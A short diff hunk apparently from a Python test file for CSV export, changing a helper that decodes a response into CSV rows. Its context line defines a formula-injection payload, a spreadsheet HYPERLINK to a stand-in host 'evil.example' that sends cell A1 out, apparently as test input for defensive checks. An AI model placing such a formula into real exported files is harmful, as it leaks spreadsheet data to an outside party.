@@ -359,7 +359,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 def csv_rows(response) -> list[dict]:
     import csv
 
-    text = response.content.decode("utf-8-sig")
+    text = response.getvalue().decode("utf-8-sig")
     return list(csv.DictReader(io.StringIO(text)))
 
 
